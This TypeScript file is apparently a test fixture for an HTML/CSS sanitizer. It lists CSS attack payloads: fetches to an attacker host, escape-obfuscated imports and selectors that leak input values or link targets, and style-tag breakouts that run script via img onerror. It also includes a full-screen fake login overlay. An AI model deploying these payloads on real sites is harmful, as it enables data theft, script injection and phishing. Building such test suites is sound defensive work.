/** Style sheets: fetching, reading out what is on the page, covering what is around it, running. */

import { FILE, HOST, htmlAttack, htmlAttacks, RUN_SHORT } from './attack.ts';

const at = (name: string): string => `http://${HOST}/${name}`;

/** Declarations that fetch, in an attribute and in a sheet. */
const declarations: Readonly<Record<string, string>> = {
  background: `background:url(${at('bg.png')})`,
  'background with escapes': `background:u\\72l(${at('esc.png')})`,
  'background in comments': `back/**/ground:url(${at('x')});background/**/:/**/url(${at('comment.png')})`,
  'list image': `list-style-image:url(${at('li.png')});display:list-item`,
  'border image': `border-image:url(${at('border.png')}) 30 round;border:9px solid`,
  cursor: `cursor:url(${at('cursor.png')}),auto`,
  content: `content:url(${at('content.png')})`,
  mask: `mask:url(${at('mask.svg#m')});-webkit-mask-image:url(${at('mask.png')})`,
  'clip path': `clip-path:url(${at('clip.svg#c')})`,
  filter: `filter:url(${at('filter.svg#f')});backdrop-filter:url(${at('bf.svg#f')})`,
  'shape outside': `float:left;shape-outside:url(${at('shape.png')})`,
  'image-set': `background:image-set("${at('set.png')}" 1x)`,
  '-webkit-image-set': `background:-webkit-image-set(url(${at('wset.png')}) 1x)`,
  'cross-fade': `background:-webkit-cross-fade(url(${at('cf1.png')}),url(${at('cf2.png')}),50%)`,
  variable: `--a:url(${at('var.png')});background:var(--a)`,
  'offset path': `offset-path:url(${at('path.svg#p')})`,
  marker: `marker:url(${at('marker.svg#m')})`,
  'a file': `background:url(file://${FILE})`,
  'a share': `background:url(//${HOST}/share.png)`,
  expression: `width:expression(${RUN_SHORT})`,
  behavior: `behavior:url(${at('b.htc')});-moz-binding:url(${at('x.xml#x')})`,
  'javascript address': `background:url("javascript:${RUN_SHORT}")`,
  'ends the attribute': `background:url('x"><img src=x onerror=${RUN_SHORT}>')`,
};

const inAttribute = Object.entries(declarations).map(([name, css]) =>
  htmlAttack(`style attribute: ${name}`, `<div style="${css.replaceAll('"', '&quot;')}">x</div>`),
);
const inSheet = Object.entries(declarations).map(([name, css]) =>
  htmlAttack(`style sheet: ${name}`, `<style>div{${css}}</style><div>x</div>`),
);

const sheets = {
  import: `<style>@import url(${at('import.css')});</style>`,
  'import of a string': `<style>@import "${at('import2.css')}" screen;</style>`,
  'import in escapes': `<style>@\\69mport "${at('import3.css')}";</style>`,
  'import with a layer': `<style>@import "${at('import4.css')}" layer(x) supports(display:grid);</style>`,
  'font face': `<style>@font-face{font-family:x;src:url(${at('font.woff')})}p{font-family:x}</style><p>x`,
  'font face by ranges': `<style>@font-face{font-family:y;src:url(${at('A.woff')});unicode-range:U+0041}p{font-family:y}</style><p>A`,
  'counter style': `<style>@counter-style x{system:cyclic;symbols:url(${at('c.png')})}li{list-style:x}</style><li>x`,
  'reading attributes out': `<style>a[href^="/link/0"]{background:url(${at('leak0')})}a[href^=h]{background:url(${at('leakh')})}</style><a href="http://${HOST}/secret">x</a>`,
  'reading values out': `<style>input[value^=s]{background:url(${at('value-s')})}</style><input value=secret>`,
  'asking for the hover': `<style>p:hover{background:url(${at('hover')})}p:active{background:url(${at('active')})}</style><p>x`,
  'asking for what was visited': `<style>a:visited{background:url(${at('visited')})}</style><a href="http://${HOST}/">x</a>`,
  'asking for the size': `<style>@media(min-width:1px){body{background:url(${at('wide')})}}@container(min-width:1px){p{background:url(${at('container')})}}</style><p>x`,
  'asking for the theme': `<style>@media(prefers-color-scheme:light){body{background:url(${at('light')})}}</style>`,
  'asking when it is printed': `<style>@media print{body{background:url(${at('print')})}}@page{background:url(${at('page')})}</style>`,
  'asking what is supported': `<style>@supports(display:grid){body{background:url(${at('grid')})}}</style>`,
  'scroll to text': `<style>:target{background:url(${at('target')})}::target-text{background:url(${at('target-text')})}</style>`,
  'ends the element': `<style>p{font-family:"</style><img src=x onerror=${RUN_SHORT}>"}</style><p>x`,
  'ends the element in a selector': `<style>p[title="</style><img src=x onerror=${RUN_SHORT}>"]{color:red}</style><p>x`,
  'ends it in escapes': `<style>p{font-family:"\\3c/style\\3e\\3cimg src=x onerror=${RUN_SHORT}\\3e"}</style><p>x`,
  'ends it in a media query': `<style>@media \\3c\\2fstyle\\3e\\3cimg\\20src=x{p{color:red}}</style><p>x`,
  'attribute function': `<style>p{background:attr(title url)}</style><p title="${at('attr')}">x`,
  animation: `<style>@keyframes k{from{background:url(${at('k1')})}to{background:url(${at('k2')})}}p{animation:k 1s}</style><p>x`,
  'registered property': `<style>@property --p{syntax:"<url>";inherits:true;initial-value:url(${at('prop')})}p{background:var(--p)}</style><p>x`,
  'covers everything':
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:2147483647;background:red">Your mailbox is full. Log in.</div>',
  'moves everything': '<div style="transform:scale(9999);position:absolute;top:-5000px">x</div>',
  'hides everything':
    '<style>*{display:none!important}html,body{visibility:hidden!important}</style>x',
  'cursor that covers':
    '<style>*{cursor:url(data:image/png;base64,iVBORw0KGgo=) 9 9,none!important}</style>x',
  'sheet as an attribute of a link': `<p style="x:expression(${RUN_SHORT})" class="a{background:url(${at('class')})}">x`,
  'old comment around': `<style><!-- p{background:url(${at('old.png')})} --></style><p>x`,
  'sheet in the body of a table': `<table><style>td{background:url(${at('table.png')})}</style><td>x</table>`,
  'xml processing': `<style type="text/xsl">@import "${at('xsl')}"</style>`,
  nested: `<style>p{&:hover{background:url(${at('nested')})} > b{background:url(${at('nested2')})}}</style><p><b>x`,
  scope: `<style>@scope(p){b{background:url(${at('scope')})}}</style><p><b>x`,
  'starting style': `<style>@starting-style{p{background:url(${at('starting')})}}</style><p>x`,
  namespace: `<style>@namespace "${at('ns')}";p{color:red}</style><p>x`,
  'charset of its own': `<style>@charset "utf-7";p{background:url(${at('c7')})}</style><p>x`,
};

export const styleAttacks = [...inAttribute, ...inSheet, ...htmlAttacks('sheet', sheets)];
